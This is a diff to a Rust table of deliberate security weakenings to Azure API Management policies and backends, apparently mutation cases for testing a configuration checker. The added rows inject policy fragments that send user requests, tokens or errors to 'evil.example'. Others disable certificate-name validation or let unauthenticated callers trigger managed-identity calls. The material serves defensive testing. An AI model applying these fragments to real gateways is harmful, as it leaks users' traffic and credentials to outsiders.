@@ -180,8 +180,8 @@ pub(super) const WEAKENINGS: &[Weakening] = &[
     row("APIM-17", &[(SERVICE, Add("namedValues/key", r#"{ "properties": { "displayName": "key", "secret": true } }"#))]).hidden(Inside).stands(),
     row("APIM-17", &[(SERVICE, Add("namedValues/key", r#"{ "properties": { "displayName": "key", "secret": true, "keyVault": { "secretIdentifier": "https://kv.vault.azure.net/secrets/a", "lastStatus": { "code": "Forbidden" } } } }"#))]).hidden(Inside).stands(),
     row("APIM-18", &[("backends/secgw-orders-{env}--func-orders-{env}", Set("/properties/tls/validateCertificateName", "false"))]).hidden(Inside),
-    row("APIM-18", &[("backends/secgw-orders-{env}--func-orders-{env}", Set("/properties/url", r#""http://func.azurewebsites.net/api""#))]).hidden(Inside),
-    row("APIM-18", &[("apis/orders", Set("/properties/serviceUrl", r#""http://func.azurewebsites.net""#))]).hidden(Inside),
+    row("APIM-18", &[("backends/secgw-orders-{env}--func-orders-{env}", Set("/properties/url", r#""http://func.azurewebsites.net/api""#))]).also(&["POL-16"]).hidden(Inside),
+    row("APIM-18", &[("apis/orders", Set("/properties/serviceUrl", r#""http://func.azurewebsites.net""#))]).also(&["POL-16"]).hidden(Inside),
     row("APIM-19", &[(SERVICE, Set("/properties/hostnameConfigurations", r#"[{ "type": "Proxy", "hostName": "api.contoso.com", "certificateSource": "Custom" }]"#))]).hidden(Guarded).stands(),
     row("APIM-19", &[(SERVICE, Set("/properties/hostnameConfigurations", r#"[{ "type": "Proxy", "hostName": "api.contoso.com", "certificateSource": "KeyVault", "keyVaultId": "https://kv.vault.azure.net/secrets/cert/0123456789abcdef" }]"#))]).hidden(Guarded).stands(),
     row("APIM-19", &[(SERVICE, Set("/properties/hostnameConfigurations", r#"[{ "type": "Proxy", "hostName": "api.contoso.com", "certificateSource": "Managed", "certificate": { "expiry": "2026-12-20T00:00:00Z" } }]"#))]).hidden(Guarded).stands(),
@@ -196,7 +196,9 @@ pub(super) const WEAKENINGS: &[Weakening] = &[
     row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<return-response><set-status code="200" /></return-response><validate-jwt "#))]).seen(&["A01"]),
     row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<choose><when condition="@(context.Request.Headers.ContainsKey(&quot;X-Debug&quot;))"><return-response response-variable-name="r" /></when></choose><validate-jwt "#))]).hidden(Unknown),
     row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<mock-response status-code="200" /><validate-jwt "#))]).seen(&["A01"]),
-    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<send-request mode="new" response-variable-name="r"><set-url>https://evil.example</set-url></send-request><validate-jwt "#))]).hidden(Guarded),
+    row("POL-01", &[(POLICY, Text("<validate-jwt ", r#"<send-request mode="new" response-variable-name="r"><set-url>https://evil.example</set-url></send-request><validate-jwt "#))]).also(&["POL-16"]).hidden(Guarded),
+    // Whoever has no token makes the gateway call the function, as the gateway.
+    row("POL-01", &[(POLICY, Text("<on-error>", r#"<on-error><send-one-way-request mode="new"><set-url>https://login.microsoftonline.com/x</set-url><authentication-managed-identity resource="api://func" /></send-one-way-request>"#))]).hidden(Inside),
     row("POL-01", &[(POLICY, Text("<on-error>", r#"<on-error><return-response><set-status code="200" /></return-response>"#))]).seen(&["A01"]),
     // The operation's own policy does not run its API's.
     row("POL-01", &[("apis/orders/operations/list-orders", Add("policies/policy", r#"{ "properties": { "format": "rawxml", "value": "<policies><inbound /><backend><base /></backend><outbound><base /></outbound><on-error><base /></on-error></policies>" } }"#))])
@@ -232,6 +234,15 @@ pub(super) const WEAKENINGS: &[Weakening] = &[
     row("POL-16", &[(POLICY, Drop("authentication-managed-identity"))]).hidden(Shut),
     row("POL-16", &[(POLICY, Text("ignore-error=\"false\"", "ignore-error=\"true\""))]).hidden(Inside),
     row("POL-16", &[(POLICY, Text("<authentication-managed-identity resource=\"", "<authentication-managed-identity resource=\"x"))]).hidden(Shut),
+    // The users' calls, and their tokens, go to somebody else.
+    row("POL-16", &[(POLICY, Text("<authentication-managed-identity ", r#"<set-backend-service base-url="https://evil.example" /><authentication-managed-identity "#))]).hidden(Shut),
+    row("POL-16", &[(POLICY, Text("<set-backend-service backend-id=\"secgw-orders", "<set-backend-service backend-id=\"evil"))]).hidden(Shut),
+    row("POL-16", &[(POLICY, Text("<set-backend-service ", r#"<retry condition="@(false)" count="1" interval="1"><send-request mode="new" response-variable-name="r"><set-url>https://evil.example/in</set-url></send-request></retry><set-backend-service "#))]).hidden(Inside),
+    row("POL-16", &[(POLICY, Text("<outbound>", r#"<outbound><send-one-way-request mode="new"><set-url>https://evil.example/out</set-url><set-method>POST</set-method></send-one-way-request>"#))]).hidden(Inside),
+    row("POL-16", &[(POLICY, Text("<on-error>", r#"<on-error><choose><when condition="@(true)"><send-one-way-request mode="new"><set-url>https://evil.example/errors</set-url></send-one-way-request></when></choose>"#))]).hidden(Inside),
+    row("POL-16", &[(GLOBAL, Text("<backend>", r#"<backend><proxy url="http://evil.example:8080" />"#))]).hidden(Shut),
+    row("POL-16", &[("backends/secgw-orders-{env}--func-orders-{env}", Set("/properties/url", r#""https://evil.example/api""#))]).hidden(Shut),
+    row("POL-16", &[("apis/orders", Set("/properties/serviceUrl", r#""https://evil.example""#))]).hidden(Inside),
     row("POL-17", &[(POLICY, Text("name=\"X-User-Id\" exists-action=\"override\"", "name=\"X-User-Id\" exists-action=\"skip\""))]).hidden(Inside),
     row("POL-17", &[(POLICY, Text("name=\"X-User-Scopes\"", "name=\"X-Other\""))]).hidden(Inside),
     row("AFD-01", &[(ROUTE, Set("/properties/httpsRedirect", r#""Disabled""#))]).seen(&["B01"]),
